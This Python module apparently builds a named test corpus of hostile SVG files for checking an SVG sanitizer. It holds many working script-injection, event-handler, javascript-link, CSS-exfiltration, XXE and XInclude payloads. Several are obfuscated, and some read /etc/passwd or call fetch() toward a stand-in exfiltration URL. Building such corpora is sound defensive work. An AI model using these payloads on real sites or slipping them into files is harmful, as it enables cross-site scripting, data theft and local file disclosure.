"""Drawings (SVG) that try to run something, to reach out, or to hide either: by name, the file. FIRE is what they try to run.

Own kinds, each written for this collection. `steal()` is what a script would call, `https://example.org/` what would be reached.
"""

from __future__ import annotations

from collections.abc import Iterator

SVG, XLINK, XHTML = "http://www.w3.org/2000/svg", "http://www.w3.org/1999/xlink", "http://www.w3.org/1999/xhtml"
MATHML, EVENTS = "http://www.w3.org/1998/Math/MathML", "http://www.w3.org/2001/xml-events"
OUT = "https://example.org/stolen"
FIRE = "fetch('https://example.org/stolen');document.documentElement.setAttribute('data-fired','yes')"
NESTED = "data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg'%3E%3Cscript%3Esteal()%3C/script%3E%3C/svg%3E"
HANDLERS = (
    *("onload", "onbegin", "onend", "onrepeat", "onclick", "onmouseover", "onfocus", "onfocusin", "onerror", "onresize"),
    *("onscroll", "onunload", "ontoggle"),
)


def drawing(content: str, attributes: str = "", before: str = "") -> str:
    """A drawing with a rectangle and a word, around `content`; `before` stands before its root."""
    spaces = f'xmlns="{SVG}" xmlns:xlink="{XLINK}"'
    return (
        f'{before}<svg {spaces} width="200" height="100" {attributes}><rect width="200" height="100" fill="#cde"/>'
        f'<text x="9" y="40">Harbor</text>{content}</svg>'
    )


def _scripts() -> Iterator[tuple[str, str]]:
    yield "script", drawing(f"<script>{FIRE}</script>")
    yield "script in CDATA", drawing(f"<script><![CDATA[{FIRE}]]></script>")
    yield "script with a type", drawing(f'<script type="application/ecmascript">{FIRE}</script>')
    yield "script by xlink", drawing(f'<script xlink:href="{OUT}.js"/>')
    yield "script by href", drawing(f'<script href="{OUT}.js"/>')
    yield "script as data", drawing(f'<script href="data:text/javascript,{FIRE}"/>')
    yield "script of XHTML", drawing(f'<script xmlns="{XHTML}">{FIRE}</script>')
    yield "script with a prefix", drawing(f'<h:script xmlns:h="{XHTML}">{FIRE}</h:script>')
    yield "script with a prefix of SVG", drawing(f'<s:script xmlns:s="{SVG}">{FIRE}</s:script>')
    yield "script in a title", drawing(f"<title><script>{FIRE}</script></title>")
    yield "script in a title of XHTML", drawing(f'<title><script xmlns="{XHTML}">{FIRE}</script></title>')
    yield "script in a description", drawing(f"<desc><h:body xmlns:h='{XHTML}'><h:script>{FIRE}</h:script></h:body></desc>")
    yield "script in metadata", drawing(f"<metadata><script>{FIRE}</script></metadata>")
    yield "script in a style", drawing(f"<style><script>{FIRE}</script></style>")
    yield "script in a pattern", drawing(f'<pattern id="p"><script>{FIRE}</script></pattern><rect fill="url(#p)"/>')
    yield "script in text", drawing(f"<text><tspan><script>{FIRE}</script>words</tspan></text>")
    yield "script in a switch", drawing(f"<switch><g systemLanguage='xx'/><script>{FIRE}</script></switch>")
    yield "script in a link", drawing(f"<a xlink:href='#x'><script>{FIRE}</script></a>")
    yield "script in an unknown element", drawing(f"<wrapper><script>{FIRE}</script></wrapper>")
    yield (
        "script behind a foreign root",
        f'<x:svg xmlns:x="{SVG}" xmlns="{XHTML}" width="9" height="9"><script>{FIRE}</script></x:svg>',
    )
    yield "script of HTML without namespace", drawing(f'<script xmlns="">{FIRE}</script>')
    yield (
        "script in MathML",
        drawing(f"<metadata><math xmlns='{MATHML}'><script xmlns='{XHTML}'>{FIRE}</script></math></metadata>"),
    )
    yield (
        "handler of SVG Tiny",
        drawing(f'<handler type="application/ecmascript" ev:event="load" xmlns:ev="{EVENTS}">{FIRE}</handler>'),
    )
    yield (
        "listener of XML Events",
        drawing(f'<ev:listener xmlns:ev="{EVENTS}" event="load" handler="#h"/><script id="h">{FIRE}</script>'),
    )


def _handlers() -> Iterator[tuple[str, str]]:
    for name in HANDLERS:
        yield f"{name} of the root", drawing("", f'{name}="{FIRE}"')
        yield f"{name} of a shape", drawing(f'<rect width="99" height="99" tabindex="0" {name}="{FIRE}"/>')
    yield "handler in capitals", drawing("", f'ONLOAD="{FIRE}" OnLoad="{FIRE}"')
    yield "handler with a prefix", drawing("", f'xmlns:s="{SVG}" s:onload="{FIRE}"')
    yield "handler of an image", drawing(f'<image href="data:," onerror="{FIRE}"/>')
    yield "handler of a foreign image", drawing(f'<h:img xmlns:h="{XHTML}" src="x" onerror="{FIRE}"/>')
    yield "handler of a set", drawing(f'<set attributeName="x" to="1" onbegin="{FIRE}"/>')
    yield (
        "handler by entity",
        drawing("&h;", before=f"<!DOCTYPE svg [<!ENTITY h \"<rect onload='{FIRE}' onclick='steal()'/>\">]>"),
    )
    yield "handler by default of the DTD", drawing("", before=f'<!DOCTYPE svg [<!ATTLIST svg onload CDATA "{FIRE}">]>')
    yield (
        "namespace by default of the DTD",
        drawing(f"<x:script>{FIRE}</x:script>", before=f'<!DOCTYPE svg [<!ATTLIST svg xmlns:x CDATA "{XHTML}">]>'),
    )


def _foreign() -> Iterator[tuple[str, str]]:
    page = f"<body xmlns='{XHTML}'>{{}}</body>"
    for name, content in {
        "frame": f"<iframe src='{OUT}'/>",
        "frame of a script": "<iframe src='javascript:steal()'/>",
        "frame of a document": "<iframe srcdoc='&lt;script&gt;steal()&lt;/script&gt;'/>",
        "object": f"<object data='{OUT}'/>",
        "embed": f"<embed src='{OUT}'/>",
        "image": f"<img src='{OUT}' onerror='steal()'/>",
        "video": f"<video src='{OUT}' poster='{OUT}' autoplay=''/>",
        "form": f"<form action='{OUT}'><input autofocus='' onfocus='steal()'/></form>",
        "style": f"<style>@import '{OUT}';</style>",
        "link": f"<link rel='stylesheet' href='{OUT}.css'/>",
        "refresh": f"<meta http-equiv='refresh' content='0;url={OUT}'/>",
        "base": f"<base href='{OUT}/'/>",
        "template": "<template><script>steal()</script></template>",
        "details": "<details open='' ontoggle='steal()'/>",
        "portal": f"<portal src='{OUT}'/>",
    }.items():
        yield f"{name} in HTML", drawing(f"<foreignObject width='99' height='99'>{page.format(content)}</foreignObject>")
        prefixed = content.replace("<", "<h:").replace("<h:/", "</h:").replace("<h:script>", "<h:script>")
        yield f"{name} without a frame", drawing(f"<h:div xmlns:h='{XHTML}'>{prefixed}</h:div>")
    yield "frame of SVG 1.2", drawing(f"<iframe xlink:href='{OUT}'/><audio xlink:href='{OUT}'/><video xlink:href='{OUT}'/>")
    yield "foreign object in lower case", drawing(f"<foreignobject><iframe xmlns='{XHTML}' src='{OUT}'/></foreignobject>")


def _links() -> Iterator[tuple[str, str]]:
    for name, address in {
        "script": "javascript:steal()",
        "script with a tab": "java&#9;script:steal()",
        "script with a line": "java&#10;script:steal()",
        "script behind spaces": " &#1;javascript:steal()".replace("&#1;", ""),
        "script in capitals": "JAVASCRIPT:steal()",
        "script by references": "&#x6a;avascript&#x3a;steal()",
        "data": "data:text/html,%3Cscript%3Esteal()%3C/script%3E",
        "other site": OUT,
        "file": "file:///etc/passwd",
    }.items():
        for attribute in ("xlink:href", "href"):
            yield f"link to a {name} by {attribute}", drawing(f'<a {attribute}="{address}"><rect width="99" height="99"/></a>')
    yield "link by another prefix", drawing(f'<a xmlns:y="{XLINK}" y:href="javascript:steal()"><circle r="50"/></a>')
    yield "link in text", drawing('<text><a xlink:href="javascript:steal()">words</a></text>')
    yield (
        "link of MathML",
        drawing(f"<metadata><math xmlns='{MATHML}'><mi href='javascript:steal()' xlink:href='{OUT}'>x</mi></math></metadata>"),
    )
    yield (
        "action of MathML",
        drawing(
            f"<metadata><math xmlns='{MATHML}'><maction actiontype='statusline' xlink:href='{OUT}'>x</maction></math></metadata>"
        ),
    )
    yield (
        "page in an annotation",
        drawing(
            f"<metadata><math xmlns='{MATHML}'><semantics><mi>x</mi><annotation-xml encoding='text/html'>"
            f"<body xmlns='{XHTML}'><script>{FIRE}</script></body></annotation-xml></semantics></math></metadata>"
        ),
    )


def _uses() -> Iterator[tuple[str, str]]:
    for name in (
        "use",
        "image",
        "textPath",
        "linearGradient",
        "pattern",
        "feImage",
        "mpath",
        "cursor",
        "tref",
        "filter",
        "script",
        "animate",
    ):
        for attribute in ("xlink:href", "href"):
            yield (
                f"{name} from outside by {attribute}",
                drawing(f'<{name} {attribute}="{OUT}#x" id="u" width="9" height="9">x</{name}>'),
            )
    yield "use of a nested drawing", drawing(f'<use xlink:href="{NESTED}#x"/>')
    yield "image of a nested drawing", drawing(f'<image xlink:href="{NESTED}" width="99" height="99"/>')
    yield (
        "image of a nested drawing in base64",
        drawing('<image href="data:image/svg+xml;base64,PHN2Zy8+" width="99" height="99"/>'),
    )
    yield (
        "image of a nested page",
        drawing('<image href="data:text/html,&lt;script&gt;steal()&lt;/script&gt;" width="99" height="99"/>'),
    )
    yield "image by a file", drawing('<image href="file:///etc/passwd" width="99" height="99"/><image href="../x.png"/>')
    yield "use of itself", drawing('<g id="a"><use href="#a"/></g>')
    yield "use in a circle", drawing('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>')


def _animations() -> Iterator[tuple[str, str]]:
    for name in ("animate", "set", "animateTransform", "animateMotion", "discard"):
        for target, value in (("href", "javascript:steal()"), ("xlink:href", "javascript:steal()"), ("onclick", "steal()")):
            inner = f'<{name} attributeName="{target}" to="{value}" values="{value}" begin="0s" fill="freeze"/>'
            yield f"{name} of {target}", drawing(f'<a id="l" xlink:href="#x">{inner}<rect width="99" height="99"/></a>')
        yield f"{name} from outside", drawing(f'<g id="l"/><{name} xlink:href="#l" attributeName="href" to="{OUT}"/>')


def _styles() -> Iterator[tuple[str, str]]:
    for name, css in {
        "import": f"@import '{OUT}.css';",
        "import by url": f"@import url({OUT}.css);",
        "import with an escape": f"@\\69mport '{OUT}.css';",
        "import in media": f"@media all {{ @import '{OUT}.css'; }}",
        "import behind a comment": f"/* */@import/**/'{OUT}.css';",
        "font": f"@font-face {{ font-family: x; src: url({OUT}.woff) }} text {{ font-family: x }}",
        "namespace": f"@namespace '{XHTML}'; script {{ display: block }}",
        "charset": f"@charset 'utf-7'; +AEA-import '{OUT}.css';",
        "page": f"@page {{ background: url({OUT}) }}",
        "background": f"svg {{ background: url({OUT}); background-image: url('{OUT}') }}",
        "fill": f"rect {{ fill: url({OUT}#p) }}",
        "fill with an escape": f"rect {{ fill: \\75rl({OUT}#p) }}",
        "fill with a comment": f"rect {{ fill: u/**/rl({OUT}#p) }}",
        "filter": f"rect {{ filter: url({OUT}#f) }} text {{ mask: url({OUT}#m); clip-path: url({OUT}#c) }}",
        "marker": f"path {{ marker-start: url({OUT}#m); marker: url({OUT}#m) }}",
        "cursor": f"svg {{ cursor: url({OUT}), auto }}",
        "list": f"text {{ list-style: url({OUT}); content: url({OUT}) }}",
        "image set": f"svg {{ background: image-set('{OUT}' 1x); mask: -webkit-image-set(url({OUT}) 1x) }}",
        "source": f"rect {{ fill: src('{OUT}'); filter: src({OUT}) }}",
        "variable": f"svg {{ --x: url({OUT}); --y: '{OUT}' }} rect {{ fill: var(--x); background: url(var(--y)) }}",
        "variable of a string": f"svg {{ --x: '{OUT}'; background: image-set(var(--x) 1x) }}",
        "expression": "rect { width: expression(steal()); behavior: url(#default#time2); -moz-binding: url(x.xml#x) }",
        "attribute": f"rect {{ fill: attr(href url); background: url({OUT}) }}",
        "selector": f"rect[onclick^='url({OUT})'] {{ fill: red }} a[href='{OUT}'] {{ fill: url({OUT}) }}",
        "support": f"@supports (fill: url({OUT})) {{ rect {{ fill: url({OUT}) }} }}",
        "layer": f"@layer x {{ rect {{ fill: url({OUT}) }} }} @container (width > 1px) {{ rect {{ fill: url({OUT}) }} }}",
        "nesting": f"svg {{ & rect {{ fill: url({OUT}) }} rect {{ filter: url({OUT}) }} }}",
        "end of the element": f"]]></style><script>{FIRE}</script><style><![CDATA[",
        "end of the element by references": "&lt;/style&gt;&lt;script&gt;steal()&lt;/script&gt;",
        "broken string": f"rect {{ fill: 'x\ny; background: url({OUT}) }}",
        "broken address": f"rect {{ fill: url({OUT} x); filter: url('{OUT}' }}",
        "keyframes": f"@keyframes k {{ to {{ fill: url({OUT}) }} }} rect {{ animation: k 1s }}",
        "property": f"@property --u {{ syntax: '<url>'; initial-value: url({OUT}); inherits: true }} rect {{ fill: var(--u) }}",
    }.items():
        wrapped = css if "references" in name or "]]>" in css else f"<![CDATA[{css}]]>"
        wrapped = f"<![CDATA[{css}]]>" if "]]>" in css else wrapped
        yield f"style: {name}", drawing(f"<style>{wrapped}</style><path d='M0 0h9v9' class='x'/>")
    for attribute in ("fill", "stroke", "filter", "mask", "clip-path", "marker-start", "cursor", "style", "background"):
        value = f"url({OUT}#x)" if attribute != "style" else f"fill:url({OUT}#x);background:url({OUT})"
        yield f"address in {attribute}", drawing(f'<rect width="9" height="9" {attribute}="{value}"/>')
        yield (
            f"escaped address in {attribute}",
            drawing(f'<rect width="9" height="9" {attribute}="{value.replace("url", "&#92;75&#32;rl")}"/>'),
        )
    yield "style of XHTML", drawing(f"<h:style xmlns:h='{XHTML}'>@import '{OUT}';</h:style>")
    yield "style by a link", drawing(f"<h:link xmlns:h='{XHTML}' rel='stylesheet' href='{OUT}.css'/>")


def _declarations() -> Iterator[tuple[str, str]]:
    yield "style sheet instruction", drawing("", before=f'<?xml-stylesheet type="text/css" href="{OUT}.css"?>')
    yield "transformation", drawing("", before=f'<?xml-stylesheet type="text/xsl" href="{OUT}.xsl"?>')
    yield "instruction inside", drawing(f'<?xml-stylesheet href="{OUT}.css"?><?php steal() ?>')
    yield "external DTD", drawing("", before=f'<!DOCTYPE svg PUBLIC "-//x" "{OUT}.dtd">')
    yield "external entity", drawing("<text>&x;</text>", before=f'<!DOCTYPE svg [<!ENTITY x SYSTEM "{OUT}">]>')
    yield "entity of a file", drawing("<text>&x;</text>", before='<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/hostname">]>')
    yield "parameter entity", drawing("", before=f'<!DOCTYPE svg [<!ENTITY % x SYSTEM "{OUT}"> %x;]>')
    yield "entity with markup", drawing("&x;", before=f'<!DOCTYPE svg [<!ENTITY x "<script>{FIRE}</script>">]>')
    yield (
        "entity in an attribute",
        drawing('<a href="&x;"><rect/></a>', before='<!DOCTYPE svg [<!ENTITY x "javascript:steal()">]>'),
    )
    yield "inclusion", drawing(f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{OUT}" parse="text"/>')
    yield "comment that ends early", drawing(f"<!-- --><script>{FIRE}</script><!-- -->")
    yield "base of XML", drawing('<use href="#x"/><image href="x.png"/>', f'xml:base="{OUT}/"')
    yield (
        "words that look like markup",
        drawing(f"<text>&lt;script&gt;{FIRE}&lt;/script&gt;</text><title>]]&gt;&lt;/svg&gt;</title>"),
    )
    yield "root of HTML", f'<html xmlns="{XHTML}"><script>{FIRE}</script><svg xmlns="{SVG}" width="9" height="9"/></html>'
    yield "not well-formed", drawing(f"<script>{FIRE}</script><p>")


def drawings() -> dict[str, str]:
    """Every hostile drawing by its name."""
    found: dict[str, str] = {}
    for kind in (_scripts, _handlers, _foreign, _links, _uses, _animations, _styles, _declarations):
        for name, text in kind():
            assert name not in found, name
            found[name] = text
    return found
